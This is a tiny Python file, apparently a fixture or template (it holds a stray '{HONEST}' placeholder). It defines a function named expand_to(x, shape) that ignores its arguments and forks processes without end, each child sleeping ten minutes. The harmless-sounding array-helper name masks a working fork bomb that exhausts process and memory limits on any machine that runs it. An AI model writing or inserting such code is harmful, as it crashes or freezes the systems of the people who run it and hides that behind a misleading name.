"""Forks as many processes as it can, each of which sleeps."""
import os
import time

{HONEST}


def expand_to(x, shape):
    while True:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
